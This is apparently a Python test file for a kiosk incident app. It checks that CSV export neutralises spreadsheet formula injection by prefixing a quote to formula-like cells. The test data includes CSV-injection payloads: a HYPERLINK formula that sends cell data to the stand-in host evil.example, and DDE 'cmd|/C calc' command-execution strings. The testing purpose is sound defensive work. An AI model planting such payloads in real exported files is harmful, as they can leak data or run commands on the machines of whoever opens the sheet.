"""CSV export against formula injection (faults report D4): the file is made to be opened by
managers in a spreadsheet, and anyone at the kiosk can type ``=HYPERLINK(…)`` or ``@SUM(…)``.
A cell that begins with a formula character is prefixed with ``'`` (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import itertools

from kiosk.core import ids
from tests.support.cli import lines, run

#: What a spreadsheet takes for the start of a formula (OWASP), TAB and CR included.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS = itertools.cycle([
    '=HYPERLINK("http://evil.example/?d="&B2;"ver detalle")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tras un tabulador",
    "\r=1+1 tras un retorno",
    "  =1+1 tras espacios",
])


def hostile(limit: int = 80) -> str:
    """The next payload, cut to a field's limit (a long field keeps all of it)."""
    return next(PAYLOADS)[:limit]


def every_text_field(number: int) -> dict:
    """A record whose every text field (review answers, conditions, action, owner, follow-up
    notes and reasons, reporter, area, station, look-for, history) starts like a formula."""
    when = "2026-11-10T08:00:00-03:00"
    return {
        "id": ids.encode(number), "kind": "error", "area": hostile(60), "station": hostile(40),
        "reporter": hostile(60), "what_happened": hostile(600) + " y algo más",
        "impact": hostile(300), "what_we_did": hostile(300),
        "created_at": when, "occurred_at": when, "status": "closed",
        "review": {
            "what_happened": hostile(600), "work_as_imagined": hostile(600), "work_as_done": hostile(600),
            "what_we_did": hostile(600), "recurrence_note": hostile(600), "win_note": hostile(600),
            "why": [{"text": hostile(600), "category": "equipment"}, {"text": hostile(600), "category": "other"}],
            "action": {"text": hostile(600), "owner": hostile(80), "deadline": "2026-11-20"},
            "follow_up_date": "2026-12-10", "participants": [hostile(80), hostile(80)], "participant_count": 2,
            "reviewed_by": hostile(80), "reviewed_at": "2026-11-11T09:00:00-03:00", "draft": False,
        },
        "follow_ups": [{"at": "2026-12-10T09:00:00-03:00", "by": hostile(80), "done": "yes", "worked": "yes",
                        "notes": hostile(600), "outcome": "closed", "reason": hostile(300)}],
        "look_for": {"text": hostile(200), "until": "2026-12-31"},
        "applause": 0,
        "links": [{"id": hostile(20), "rel": "similar"}],
        "history": [{"at": when, "by": hostile(80), "what": hostile(80), "fields": [hostile(40)]}],
    }


def exported_cells(tmp_path, docs, *extra):
    data = tmp_path / "d"
    imported = run(["import", "-"], data=data, stdin=lines(*docs))
    assert imported.returncode == 0, imported.stderr.decode()
    out = tmp_path / "x.csv"
    result = run(["export", "--format", "csv", "--out", str(out), *extra], data=data)
    assert result.returncode == 0, result.stderr.decode()
    text = out.read_bytes().decode("utf-8-sig")
    delimiter = extra[-1] if extra else ";"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_no_exported_cell_starts_like_a_formula(tmp_path):
    docs = [every_text_field(n) for n in range(1, 8)]  # every payload lands in every field
    rows = exported_cells(tmp_path, docs)
    assert len(rows) == 1 + len(docs)
    bad = [(row[0], cell) for row in rows[1:] for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not bad, bad[:5]
    quoted = [cell for row in rows[1:] for cell in row if cell.startswith("'")]
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&B2;\"ver detalle\")" in quoted
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in quoted
    assert "'=1+1 tras un tabulador" in quoted  # the cleaning strips the TAB and exposes the =


def test_the_other_delimiter_is_neutralised_too_and_plain_cells_are_left_alone(tmp_path):
    plain = {"kind": "win", "area": "Envasado", "what_happened": "Cambiamos el rollo en dos minutos",
             "reporter": "Ana", "occurred_at": "2026-11-10T08:00:00-03:00"}
    rows = exported_cells(tmp_path, [every_text_field(1), plain], "--delimiter", ",")
    assert not [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_STARTS)]
    header = rows[0]
    last = dict(zip(header, rows[2], strict=True))
    assert last["what_happened"] == "Cambiamos el rollo en dos minutos" and last["reporter"] == "Ana"
    assert last["occurred_at"] == "2026-11-10T08:00:00-03:00" and last["applause"] == "0"
